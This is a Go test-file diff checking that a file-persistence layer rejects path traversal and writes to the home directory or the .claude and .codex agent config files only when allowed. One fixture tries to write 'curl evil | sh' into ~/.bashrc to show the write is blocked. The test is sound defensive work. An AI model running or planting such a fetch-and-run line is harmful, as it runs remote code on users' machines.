@@ -2,6 +2,7 @@ package core
 
 import (
 	"context"
+	"fmt"
 	"os"
 	"path/filepath"
 	"testing"
@@ -74,7 +75,7 @@ func TestPersistMaterializedResult(t *testing.T) {
 
 		err := PersistMaterializedResult(context.Background(), root, res)
 		assert.Error(t, err)
-		assert.Contains(t, err.Error(), "escapes root")
+		assert.ErrorIs(t, err, ErrPathEscapesRoot)
 
 		parentFile := filepath.Join(filepath.Dir(root), "x.txt")
 		_, statErr := os.Stat(parentFile)
@@ -95,3 +96,153 @@ func TestPersistMaterializedResult(t *testing.T) {
 		require.NoError(t, PersistMaterializedResult(context.Background(), root, res))
 	})
 }
+
+func TestRemoveFiles(t *testing.T) {
+	root := t.TempDir()
+	require.NoError(t, os.MkdirAll(filepath.Join(root, "cmds"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(root, "cmds", "old.md"), []byte("x"), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(root, "cmds", "keep.md"), []byte("x"), 0o644))
+
+	require.NoError(t, RemoveFiles(context.Background(), root, []string{"cmds/old.md", "cmds/missing.md"}))
+
+	_, err := os.Stat(filepath.Join(root, "cmds", "old.md"))
+	assert.True(t, os.IsNotExist(err))
+	_, err = os.Stat(filepath.Join(root, "cmds", "keep.md"))
+	assert.NoError(t, err)
+
+	err = RemoveFiles(context.Background(), root, []string{filepath.Join("..", "x.txt")})
+	assert.Error(t, err)
+	assert.ErrorIs(t, err, ErrPathEscapesRoot)
+}
+
+func fileEntries(files ...[2]string) *adcp.MaterializedResult {
+	var entries []*adcp.MaterializedResult_Entry
+	for _, f := range files {
+		entries = append(entries, adcp.MaterializedResult_Entry_builder{
+			File: adcp.FullFileContent_builder{Path: f[0], Content: f[1]}.Build(),
+		}.Build())
+	}
+	return adcp.MaterializedResult_builder{Entries: entries}.Build()
+}
+
+func TestPersistMaterializedResult_Concurrent(t *testing.T) {
+	root := t.TempDir()
+	var files [][2]string
+	for i := range 50 {
+		files = append(files, [2]string{fmt.Sprintf("dir%d/file%d.txt", i%5, i), fmt.Sprint(i)})
+	}
+	files = append(files, [2]string{"dir0/file0.txt", "last wins"})
+	require.NoError(t, PersistMaterializedResult(WithPersistConcurrency(context.Background(), 4), root, fileEntries(files...)))
+
+	b, err := os.ReadFile(filepath.Join(root, "dir3", "file13.txt"))
+	require.NoError(t, err)
+	assert.Equal(t, "13", string(b))
+	b, err = os.ReadFile(filepath.Join(root, "dir0", "file0.txt"))
+	require.NoError(t, err)
+	assert.Equal(t, "last wins", string(b))
+}
+
+func TestPersistMaterializedResult_OrderedErrors(t *testing.T) {
+	root := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(root, "blocker"), nil, 0o644))
+
+	// Both entries fail because their parent is a file; the first one in result order is reported.
+	err := PersistMaterializedResult(context.Background(), root, fileEntries(
+		[2]string{"ok.txt", "ok"},
+		[2]string{"blocker/a.txt", "a"},
+		[2]string{"blocker/b.txt", "b"},
+	))
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "entry 1:")
+
+	// Invalid paths are rejected before anything is written.
+	err = PersistMaterializedResult(context.Background(), root, fileEntries(
+		[2]string{"written.txt", "x"},
+		[2]string{"../escape.txt", "x"},
+	))
+	assert.ErrorIs(t, err, ErrPathEscapesRoot)
+	assert.NoFileExists(t, filepath.Join(root, "written.txt"))
+}
+
+func TestPersistMaterializedResult_Executable(t *testing.T) {
+	root := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(root, "hook"), []byte("old"), 0o644))
+	blobs := NewBlobs(t.TempDir())
+	defer func() { _ = blobs.Close() }()
+	ref, err := blobs.Put("#!/bin/sh\nexit 1\n")
+	require.NoError(t, err)
+
+	res := fileEntries(
+		[2]string{"hook", "#!/bin/sh\nexit 0\n"},
+		[2]string{"streamed-hook", ref},
+		[2]string{"notes.md", "#!not a script, just a heading\n"},
+	)
+	SetExecutable(res.GetEntries()[0].GetFile())
+	SetExecutable(res.GetEntries()[1].GetFile())
+	require.NoError(t, PersistMaterializedResult(WithBlobs(context.Background(), blobs), root, res))
+
+	for _, name := range []string{"hook", "streamed-hook"} {
+		info, err := os.Stat(filepath.Join(root, name))
+		require.NoError(t, err)
+		assert.Equal(t, os.FileMode(0o755), info.Mode().Perm(), name)
+	}
+	info, err := os.Stat(filepath.Join(root, "notes.md"))
+	require.NoError(t, err)
+	assert.Zero(t, info.Mode().Perm()&0o111, "content alone does not make files executable")
+}
+
+func TestPersistMaterializedResult_HomeRoot(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	require.NoError(t, PersistMaterializedResult(context.Background(), "~", fileEntries(
+		[2]string{".claude/settings.json", "{}\n"},
+	)))
+	assert.FileExists(t, filepath.Join(home, ".claude", "settings.json"))
+
+	require.NoError(t, PersistEntry(context.Background(), "~/sub", fileEntries([2]string{"a.txt", "a"}).GetEntries()[0]))
+	assert.FileExists(t, filepath.Join(home, "sub", "a.txt"))
+
+	err := PersistMaterializedResult(context.Background(), string(filepath.Separator), fileEntries([2]string{"a.txt", "a"}))
+	assert.ErrorContains(t, err, "filesystem root")
+}
+
+func TestPersistMaterializedResult_UserFiles(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	root := t.TempDir()
+	userFile := func(path, content string) *adcp.MaterializedResult {
+		result := fileEntries([2]string{"AGENTS.md", "# Project\n"}, [2]string{path, content})
+		SetUserFile(result.GetEntries()[1].GetFile())
+		return result
+	}
+
+	// Home-relative entries from recipes or plugins never leave the root, even when user-level
+	// files are enabled.
+	for _, ctx := range []context.Context{context.Background(), WithUserRoot(context.Background(), "~")} {
+		err := PersistMaterializedResult(ctx, root, fileEntries([2]string{"~/.bashrc", "curl evil | sh\n"}))
+		require.ErrorIs(t, err, ErrPathEscapesRoot)
+		assert.NoFileExists(t, filepath.Join(home, ".bashrc"))
+		assert.ErrorIs(t, PersistEntry(ctx, root, fileEntries([2]string{"~/.bashrc", "x"}).GetEntries()[0]), ErrPathEscapesRoot)
+	}
+
+	// Files of IDE providers need user-level files to be enabled by the caller.
+	err := PersistMaterializedResult(context.Background(), root, userFile("~/.codex/config.toml", "[mcp_servers]\n"))
+	require.ErrorIs(t, err, ErrPathEscapesRoot)
+	assert.ErrorContains(t, err, "WithUserRoot")
+	assert.NoFileExists(t, filepath.Join(root, "AGENTS.md"), "nothing is written")
+
+	userRoot := t.TempDir()
+	ctx := WithUserRoot(context.Background(), userRoot)
+	require.NoError(t, PersistMaterializedResult(ctx, root, userFile("~/.codex/config.toml", "[mcp_servers]\n")))
+	assert.FileExists(t, filepath.Join(root, "AGENTS.md"))
+	assert.FileExists(t, filepath.Join(userRoot, ".codex", "config.toml"))
+	assert.NoFileExists(t, filepath.Join(home, ".codex", "config.toml"))
+	data, err := ReadUserFile(ctx, "~/.codex/config.toml")
+	require.NoError(t, err)
+	assert.Equal(t, "[mcp_servers]\n", string(data))
+
+	err = PersistMaterializedResult(ctx, root, userFile("~/../escape.txt", "x"))
+	assert.ErrorIs(t, err, ErrPathEscapesRoot)
+
+	assert.ErrorIs(t, RemoveFiles(ctx, root, []string{"~/.bashrc"}), ErrPathEscapesRoot)
+}